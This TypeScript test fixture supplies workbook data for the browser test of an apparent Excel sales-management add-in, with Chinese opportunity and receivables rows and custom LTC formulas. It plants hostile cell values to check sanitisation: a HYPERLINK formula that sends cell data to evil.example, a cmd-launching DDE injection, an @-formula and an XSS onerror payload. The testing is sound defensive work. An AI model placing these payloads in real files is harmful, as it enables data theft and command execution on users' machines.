/**
 * The workbook the browser test opens: an opportunity table (an Excel table
 * on sheet 商机), a receivables table (a plain range on sheet 应收账款) and a
 * sheet of LTC formulas. Plain data, shared by the page's Office double and
 * the test's assertions.
 */
import { DEFAULT_RULEBOOK, Rulebook } from "../../src/rules/rulebook";

export const OPP_SHEET = "商机";
export const OPP_TABLE = "商机表";
export const AR_SHEET = "应收账款";
export const FORMULA_SHEET = "评分";

export const HOSTILE_PROJECT = '=HYPERLINK("http://evil.example/?x="&A1,"点击")';
export const HOSTILE_CUSTOMER = "+SUM(1,2)*cmd|' /C calc'!A0";
export const HOSTILE_PM = "@SUM(A1:A9)";
export const HOSTILE_MARKUP = '<img src=x onerror="document.title=\'pwned\'">';

export const OPP_HEADER = [
  "项目名称",
  "客户",
  "项目类型",
  "项目类别",
  "金额",
  "代表处",
  "项目所在地",
  "客户所在地",
  "品牌认同度",
  "客户成熟度",
  "竞争对手参与比例",
  "价格竞争力",
  "客户企业性质",
  "客户财务状况",
  "客户付款历史",
  "行业盈利能力",
  "发起人",
  "项目经理",
  "客户代表",
  "解决方案代表",
  "交付代表",
  "预计招标日期",
  "预计签约日期",
];

/** 2026-03-15, 2026-04-30, 2026-05-20, 2026-06-30 as Excel serials. */
const D = { mar15: 46096, apr30: 46142, may20: 46162, jun30: 46203 };

/** Worksheet rows 2–5 (header in row 1). */
export const OPP_ROWS: (string | number)[][] = [
  [
    "湖南500kV变电站电容器集采", "国网湖南省电力有限公司", "国网集采/专项招标项目", "国南网集采项目", 12000000, "湖南代表处", "湖南", "湖南",
    "认可", "长期合作客户", 0.3, "一般", "两网、大型央企", "很好", "无坏账无延期", "高速发展期",
    "张总", "李经理", "王代表", "赵工", "钱工", D.mar15, D.apr30,
  ],
  [
    HOSTILE_PROJECT, HOSTILE_CUSTOMER, "发电MTO项目", "常规-特别重大项目", 6000000, "内蒙古代表处", "内蒙古", "内蒙古",
    "无倾向性", "首次接触", 0.55, "一般", "民营企业", "差", "有坏账", "衰退期",
    "", HOSTILE_PM, HOSTILE_MARKUP, "", "", D.may20, D.jun30,
  ],
  [
    "大唐光伏电站SVG", "大唐河北发电有限公司", "发电MTO项目", "常规-一般项目", 4500000, "河北代表处", "河北", "河北",
    "很好", "有过合同且有过合作关系", 0.2, "强", "地方国企、上市公司", "好", "无坏账有延期", "发展期",
    "刘总", "陈经理", "", "", "", D.mar15, D.apr30,
  ],
  [
    "广东配网自营项目", "广东电网有限责任公司", "客户经理自营项目", "常规-重要项目", 2800000, "广东代表处", "广东", "广东",
    "按公司方案上图", "长期合作客户", 0.1, "很强", "两网、大型央企", "很好", "无坏账无延期", "稳定期",
    "黄总", "林经理", "吴代表", "郑工", "冯工", D.may20, D.jun30,
  ],
];

/** The opportunity table's address (header + rows) on its sheet. */
export const OPP_ADDRESS = `A1:W${OPP_ROWS.length + 1}`;

export const AR_HEADER = [
  "合同号", "客户", "客户分类", "片区", "代表处", "产线", "发票号", "发票类型", "开票日期", "到期日", "金额", "已回款", "最近回款日", "最近催款或对账日", "质量问题", "客户所在地",
];

const S = (y: number, m: number, d: number) => Math.round((Date.UTC(y, m - 1, d) - Date.UTC(1899, 11, 30)) / 86400000);

/** As-of date the test types into the wizard. */
export const AS_OF = "2026-11-30";

/** Worksheet rows 2–9. Row 6 has a blank amount (excluded), row 8 is a credit, row 9 repeats an invoice number. */
export const AR_ROWS: (string | number)[][] = [
  ["HT-2026-001", "国网湖南省电力有限公司", "系统内", "华中片区", "湖南代表处", "电容器", "FP0001", "增值税专用发票", S(2026, 9, 1), S(2026, 10, 1), 1200000, 200000, S(2026, 10, 15), "", "否", "湖南"],
  ["HT-2026-002", "华能新能源股份有限公司", "系统外A类", "华北片区", "内蒙古代表处", "SVG", "FP0002", "增值税普通发票", S(2026, 3, 1), S(2026, 4, 1), 800000, 0, "", S(2026, 6, 1), "否", "内蒙古"],
  ["HT-2025-017", HOSTILE_CUSTOMER, "B类", "华北片区", "河北代表处", "电抗器", "FP0003", "增值税专用发票", S(2024, 1, 10), S(2024, 2, 10), 500000, 100000, S(2024, 3, 1), "", "是", "河北"],
  ["HT-2023-005", "广东某民营企业", "C类", "华南片区", "广东代表处", "电容器", "FP0004", "增值税普通发票", S(2023, 11, 1), S(2023, 12, 1), 300000, 0, S(2023, 12, 15), "", "否", "广东"],
  ["HT-2026-003", "国网河北省电力有限公司", "系统内", "华北片区", "河北代表处", "GIS", "FP0005", "增值税专用发票", S(2026, 11, 1), S(2026, 12, 31), "", 0, "", "", "否", "河北"],
  ["HT-2026-004", "南方电网广东公司", "系统内", "华南片区", "广东代表处", "SVG", "FP0006", "增值税专用发票", S(2026, 8, 1), S(2026, 9, 1), 450000, 0, "", "", "否", "广东"],
  ["HT-2026-005", "华能新能源股份有限公司", "系统外A类", "华北片区", "内蒙古代表处", "SVG", "FP0007", "增值税普通发票", S(2026, 7, 1), S(2026, 8, 1), 100000, 150000, S(2026, 8, 20), "", "否", "内蒙古"],
  ["HT-2026-006", "国网湖南省电力有限公司", "系统内", "华中片区", "湖南代表处", "电容器", "FP0001", "增值税专用发票", S(2026, 9, 1), S(2026, 10, 1), 50000, 0, "", "", "否", "湖南"],
];

export const AR_ADDRESS = `A1:P${AR_ROWS.length + 1}`;

/**
 * Explain: sheet 评分 holds =LTC.OPPSCORE over row 2 of the opportunity table
 * (认可 / 长期合作客户 / 30%) and its own cell C2 (一般): 3 + 4 + 3 + 2 = 12.
 */
export const OPPSCORE_CELL = "B2";
export const OPPSCORE_FORMULA = `=LTC.OPPSCORE('${OPP_SHEET}'!I2,'${OPP_SHEET}'!J2,'${OPP_SHEET}'!K2,C2)`;
export const OPPSCORE_RESULT = 12;
/**
 * Rules: B3 asks who owns a 400万 power-generation MTO project: 代表处 under the
 * deck's 500万 threshold, 发电销售团队 once the workbook's rules lower it to 300万.
 */
export const OWNERDEPT_CELL = "B3";
export const OWNERDEPT_FORMULA = '=LTC.OWNERDEPT("发电MTO项目",4000000)';
export const OWNERDEPT_DEFAULT = "代表处";
export const OWNERDEPT_AT_300W = "发电销售团队";

/** The deck's rulebook with its version and the MTO threshold (owner.settings mtoThresholdFen) changed, as a region saves it. */
export function coauthorRulebook(version: string, mtoThresholdFen: number): Rulebook {
  const rb: Rulebook = JSON.parse(JSON.stringify(DEFAULT_RULEBOOK));
  rb.version = version;
  rb.owner.settings = rb.owner.settings.map((row) => (row.key === "mtoThresholdFen" ? { ...row, value: mtoThresholdFen } : row));
  return rb;
}

export const FORMULA_ROWS: (string | number)[][] = [
  ["项目名称", "机会点评分", "价格竞争力"],
  ["湖南500kV变电站电容器集采", OPPSCORE_RESULT, "一般"],
  ["风电场MTO（400万）", OWNERDEPT_DEFAULT, ""],
];
